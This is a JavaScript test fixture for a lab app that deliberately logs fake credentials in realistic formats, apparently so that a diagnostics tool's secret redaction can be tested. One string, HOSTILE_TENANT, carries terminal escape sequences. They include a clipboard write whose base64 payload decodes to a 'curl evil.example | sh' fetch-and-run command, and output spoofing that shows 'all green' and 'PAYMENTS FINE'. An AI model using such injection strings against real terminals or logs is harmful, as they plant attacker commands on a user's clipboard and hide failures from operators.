/* eslint-disable -- CommonJS app deployed onto lab hosts (Node globals), not diagbot code */
'use strict';
// The `leaky` scenario: an app whose failures log credentials, the way real apps do — an error
// carrying the config it failed with, request headers dumped on a 401 from a provider, a
// connection string in a driver message. Every value below is fake but has the real format.
// The attack suite (test/attack/secret-redaction.test.ts) reads SECRETS to scan diagbot's outputs.

const PEM_RSA = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIEowIBAAKCAQEAleakyRsaKeyBodyLine1AAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  'leakyRsaKeyBodyLine2BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB',
  '-----END RSA PRIVATE KEY-----',
];
const PEM_EC = ['-----BEGIN EC PRIVATE KEY-----', 'MHcCAQEEIleakyEcKeyBodyCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC', '-----END EC PRIVATE KEY-----'];
const PEM_OPENSSH = [
  '-----BEGIN OPENSSH PRIVATE KEY-----',
  'b3BlbnNzaC1rZXktdjEleakyOpensshBodyDDDDDDDDDDDDDDDDDDDDDDDDDDDDDDDDD',
  '-----END OPENSSH PRIVATE KEY-----',
];

/**
 * Each entry: the format, the text the app logs, and `needles` — the sensitive parts, none of
 * which may appear in anything diagbot stores, logs or posts (the non-secret context may).
 */
const SECRETS = [
  { id: 'aws-access-key-id', text: 'S3 PutObject denied for AKIAQ3EGRZLK7XPLEAKY', needles: ['Q3EGRZLK7XPLEAKY'] },
  { id: 'aws-secret-key', text: 'aws_secret_access_key=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', needles: ['wJalrXUtnFEMI/K7MDENG/bPxRfiCYLEAKYSECRT'] },
  { id: 'aws-session-token', text: 'AWS_SESSION_TOKEN=FwoGZXIvYXdzEBYaDLeakySessionToken9x8c7v6b5n4m3', needles: ['FwoGZXIvYXdzEBYaDLeakySessionToken9x8c7v6b5n4m3'] },
  { id: 'github-classic', text: 'git fetch with ghp_LeakyGithubClassic0123456789abcdefXYZ', needles: ['LeakyGithubClassic0123456789abcdefXYZ'] },
  { id: 'github-fine-grained', text: 'token github_pat_11LEAKYFINEGRAINED0_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ012345', needles: ['11LEAKYFINEGRAINED0_abcdefghijklmnopqrstuvwxyz0123456789'] },
  { id: 'gitlab-pat', text: 'gitlab clone failed using glpat-LeakyGitlab0123456789', needles: ['LeakyGitlab0123456789'] },
  { id: 'slack-bot-token', text: 'slack client xoxb-2718281828-3141592653-LeakyBotTokenAbCdEf', needles: ['2718281828-3141592653-LeakyBotTokenAbCdEf'] },
  { id: 'slack-app-token', text: 'socket mode with xapp-1-A0LEAKY01-2718281828459-0123456789abcdef0123456789abcdef', needles: ['A0LEAKY01-2718281828459-0123456789abcdef'] },
  { id: 'slack-webhook-url', text: 'notify https://hooks.slack.com/services/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6', needles: ['LeakyWebhookSecret0123456'] },
  { id: 'stripe-secret-key', text: 'charge failed with key sk_live_LeakyStripeLive0123456789abcd', needles: ['LeakyStripeLive0123456789abcd'] },
  { id: 'stripe-restricted-key', text: 'refund failed with rk_live_LeakyStripeRestricted0123456789', needles: ['LeakyStripeRestricted0123456789'] },
  { id: 'stripe-webhook-secret', text: 'signature check with whsec_LeakyStripeWebhook0123456789abcdef', needles: ['LeakyStripeWebhook0123456789abcdef'] },
  { id: 'twilio-api-key', text: 'sms via SK0123456789abcdef0123456789abcdef failed', needles: ['SK0123456789abcdef0123456789abcdef'] },
  { id: 'twilio-auth-url', text: 'POST https://AC0123456789abcdef0123456789abcdef:TwilioAuthLeaky0123456789abcd@api.twilio.com/2010-04-01/Messages.json', needles: ['TwilioAuthLeaky0123456789abcd'] },
  { id: 'sendgrid', text: 'mail via SG.LeakySendgrid0123456789.LeakySendgridSecretPart0123456789abcdefghijk', needles: ['LeakySendgrid0123456789.LeakySendgridSecretPart', 'LeakySendgridSecretPart0123456789abcdefghijk'] },
  { id: 'google-api-key', text: 'maps geocode with AIzaSyLeakyGoogleApiKey0123456789abcde', needles: ['SyLeakyGoogleApiKey0123456789abcde'] },
  { id: 'google-oauth-secret', text: 'oauth client GOCSPX-LeakyGoogleOauthSecret01234', needles: ['LeakyGoogleOauthSecret01234'] },
  { id: 'google-access-token', text: 'gcs upload with ya29.LeakyGoogleAccessToken0123456789abcdefghij', needles: ['LeakyGoogleAccessToken0123456789abcdefghij'] },
  { id: 'jwt', text: 'session eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJsZWFreSIsInJvbGUiOiJhZG1pbiJ9.LeakyJwtSignature0123456789abcdefghijk', needles: ['eyJzdWIiOiJsZWFreSIsInJvbGUiOiJhZG1pbiJ9', 'LeakyJwtSignature0123456789abcdefghijk'] },
  { id: 'pem-rsa', text: PEM_RSA.join('\n'), needles: ['leakyRsaKeyBodyLine1', 'leakyRsaKeyBodyLine2'] },
  { id: 'pem-ec', text: PEM_EC.join('\n'), needles: ['leakyEcKeyBody'] },
  { id: 'pem-openssh', text: PEM_OPENSSH.join('\n'), needles: ['leakyOpensshBody'] },
  { id: 'postgres-url', text: 'connect postgres://shop_app:PgLeakyPw0rd42@db-1.internal:5432/shop', needles: ['PgLeakyPw0rd42'] },
  { id: 'mysql-url', text: 'connect mysql://root:MyLeakyRootPw77@mysql-1:3306/orders', needles: ['MyLeakyRootPw77'] },
  { id: 'redis-url', text: 'cache redis://:RedisLeakyPw55@cache-1:6379/0', needles: ['RedisLeakyPw55'] },
  { id: 'amqp-url', text: 'queue amqps://orders:AmqpLeakyPw91@mq-1:5671/vhost', needles: ['AmqpLeakyPw91'] },
  { id: 'mongodb-url', text: 'reports mongodb+srv://reporting:MongoLeakyPw63@cluster0.leaky.mongodb.net/?retryWrites=true', needles: ['MongoLeakyPw63'] },
  { id: 'basic-auth-header', text: 'Authorization: Basic c2hvcDpCYXNpY0xlYWt5UHcxMg==', needles: ['c2hvcDpCYXNpY0xlYWt5UHcxMg'] },
  { id: 'bearer-header', text: 'authorization: Bearer LeakyBearerToken0123456789abcdef', needles: ['LeakyBearerToken0123456789abcdef'] },
  { id: 'token-scheme-header', text: 'Authorization: token LeakyTokenScheme0123456789', needles: ['LeakyTokenScheme0123456789'] },
  { id: 'password-kv', text: 'login failed for user=shop password=LeakyPlainPw!2026 attempt=3', needles: ['LeakyPlainPw!2026'] },
  { id: 'json-secret', text: 'config {"client": "shop", "secret": "LeakyJsonSecretValue123", "region": "eu"}', needles: ['LeakyJsonSecretValue123'] },
  { id: 'yaml-api-key', text: 'payments.yaml:   api_key: LeakyYamlApiKey456789', needles: ['LeakyYamlApiKey456789'] },
  { id: 'cookie-header', text: 'Cookie: sessionid=LeakySessionId0123456789; csrftoken=LeakyCsrf0123456789; theme=dark', needles: ['LeakySessionId0123456789', 'LeakyCsrf0123456789'] },
  { id: 'set-cookie-header', text: 'Set-Cookie: connect.sid=s%3ALeakyConnectSid0123456789.abcdef; Path=/; HttpOnly', needles: ['LeakyConnectSid0123456789'] },
  { id: 'session-id-kv', text: 'session lookup failed JSESSIONID=LeakyJsessionId0123456789ABCDEF', needles: ['LeakyJsessionId0123456789ABCDEF'] },
  { id: 'npm-token', text: 'npm publish with npm_LeakyNpmToken0123456789abcdefghijklmn', needles: ['LeakyNpmToken0123456789abcdefghijklmn'] },
  { id: 'npmrc-auth-token', text: '//registry.npmjs.org/:_authToken=LeakyNpmrcAuth0123456789', needles: ['LeakyNpmrcAuth0123456789'] },
  { id: 'azure-connection-string', text: 'blob client DefaultEndpointsProtocol=https;AccountName=leakystore;AccountKey=LeakyAzureAccountKey0123456789abcdefABCDEF==;EndpointSuffix=core.windows.net', needles: ['LeakyAzureAccountKey0123456789abcdefABCDEF'] },
  { id: 'azure-sas-sig', text: 'GET https://leakystore.blob.core.windows.net/c/x?sv=2022-11-02&sp=r&sig=LeakyAzureSasSig0123456789abcdef%3D', needles: ['LeakyAzureSasSig0123456789abcdef'] },
  { id: 'key-passphrase', text: 'ssh-add failed: passphrase=LeakyKeyPassphrase2026', needles: ['LeakyKeyPassphrase2026'] },
  { id: 'openai-key', text: 'embedding call with sk-proj-LeakyOpenAiKey0123456789abcdefABCDEF', needles: ['LeakyOpenAiKey0123456789abcdefABCDEF'] },
  { id: 'vault-token', text: 'vault read with hvs.LeakyVaultToken0123456789abcdefgh', needles: ['LeakyVaultToken0123456789abcdefgh'] },
  { id: 'db-pass-env', text: 'env DB_PASS=LeakyDbPass0987 DB_USER=shop', needles: ['LeakyDbPass0987'] },
  { id: 'cli-password-flag', text: 'exec: mysqldump -u root --password LeakyCliPw1234 orders', needles: ['LeakyCliPw1234'] },
  { id: 'x-api-key-header', text: 'X-Api-Key: LeakyXApiKey0123456789', needles: ['LeakyXApiKey0123456789'] },
  { id: 'docker-auth', text: '{"auths": {"registry.example": {"auth": "ZG9ja2VyOkxlYWt5RG9ja2VyUHc="}}}', needles: ['ZG9ja2VyOkxlYWt5RG9ja2VyUHc'] },
  { id: 'digitalocean-token', text: 'doctl with dop_v1_fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210', needles: ['fedcba9876543210fedcba9876543210fedcba9876543210'] },
  { id: 'huggingface-token', text: 'model pull with hf_LeakyHuggingFaceToken0123456789ab', needles: ['LeakyHuggingFaceToken0123456789ab'] },
];

// The tenant name in the settings error comes from the request, so it can carry terminal control
// sequences: a clipboard write (OSC 52), a cleared screen, a window title, a bare CR. diagbot must show
// them escaped (test/attack/secret-redaction.test.ts checks every sink and the CLI's text report).
const HOSTILE_TENANT = 'acme\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[H\x1b]0;all green\x07\rPAYMENTS FINE';

const byId = Object.fromEntries(SECRETS.map((s) => [s.id, s.text]));

// A connection URL placed so that it straddles column 300 of the logged line, where diagbot clips
// excerpt lines: clipping must not cut the URL's '@' off before the password is masked.
const STRADDLE = 'postgres://report:StraddlePw0123456789@reports-db:5432/reports';

/**
 * An Error whose logged form is a whole trace block: headline, message line(s), two frames, and
 * the error's own properties as util.inspect prints them.
 */
function leakyError(headline, messageLines, props) {
  const err = new Error(headline);
  err.stack = [`Error: ${headline}`, ...messageLines,
    '    at loadSettings (/srv/app/current/routes.cjs:90:11)',
    '    at async Server.<anonymous> (/srv/app/current/server.cjs:35:28) {',
    ...props.map((p, i) => `  ${p}${i === props.length - 1 ? ' }' : ','}`)].join('\n');
  return err;
}

module.exports = (ctx) => {
  // Request headers as a provider call saw them (dumped on its 401, as many HTTP clients do).
  const headerDump = (req) => JSON.stringify({ ...req.headers, authorization: 'Bearer LeakyBearerToken0123456789abcdef',
    cookie: 'sessionid=LeakySessionId0123456789; csrftoken=LeakyCsrf0123456789', 'x-api-key': 'LeakyXApiKey0123456789' });
  return {
    ...require('./catalog.cjs')(ctx),
    // Most frequent: the settings loader fails and the error carries its config (6 lines: all shown).
    'GET /api/leaky/settings': async () => {
      throw leakyError(`settings load failed for tenant ${HOSTILE_TENANT}: ${byId['postgres-url']} ${byId['aws-access-key-id']}`,
        [byId['password-kv'].padEnd(270, ' ') + STRADDLE],
        [`stripe: '${byId['stripe-secret-key']}'`, `jwt: '${byId.jwt}'`]);
    },
    // Second: the payment provider refused us; the client logs what it sent, with its signing key.
    'GET /api/leaky/payments': async ({ req }) => {
      ctx.log('ERROR', `provider 401, request headers ${headerDump(req)}`);
      throw leakyError(`payment provider rejected ${byId['bearer-header']}`,
        PEM_EC,
        [`webhook: '${byId['slack-webhook-url']}'`, `azure: '${byId['azure-connection-string']}'`]);
    },
    // Third (least frequent), after a dump of everything else the app knows.
    'GET /api/leaky/export': async () => {
      for (const s of SECRETS) ctx.log('ERROR', `export worker: ${s.text}`);
      throw leakyError(`export failed: ${byId['github-classic']} ${byId['redis-url']}`,
        [...PEM_RSA, byId['cookie-header']],
        [`sendgrid: '${byId.sendgrid}'`, `npm: '${byId['npm-token']}'`]);
    },
  };
};

/** Query strings the lab's traffic sends (scenarios.ts): nginx logs them in the access log. */
const QUERY_SECRETS = [
  { id: 'query-api-key', text: 'api_key=LeakyQueryApiKey0123456789', needles: ['LeakyQueryApiKey0123456789'] },
  { id: 'query-access-token', text: 'access_token=LeakyQueryAccessToken0123456789', needles: ['LeakyQueryAccessToken0123456789'] },
  { id: 'aws-presigned-signature', text: 'X-Amz-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef', needles: ['0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'] },
  { id: 'query-sig', text: 'sig=LeakyQuerySig0123456789', needles: ['LeakyQuerySig0123456789'] },
];

module.exports.HOSTILE_TENANT = HOSTILE_TENANT;
module.exports.SECRETS = [...SECRETS, { id: 'straddling-url', text: STRADDLE, needles: ['StraddlePw'] }, ...QUERY_SECRETS];
/** Paths for the lab's traffic (first and last 5xx lines carry query secrets). */
module.exports.PATHS = {
  settings: `/api/leaky/settings?${QUERY_SECRETS[0].text}&${QUERY_SECRETS[1].text}`,
  payments: '/api/leaky/payments',
  export: `/api/leaky/export?X-Amz-Credential=AKIAQ3EGRZLK7XPLEAKY%2F20261121%2Feu-west-1%2Fs3%2Faws4_request&${QUERY_SECRETS[2].text}&${QUERY_SECRETS[3].text}`,
};
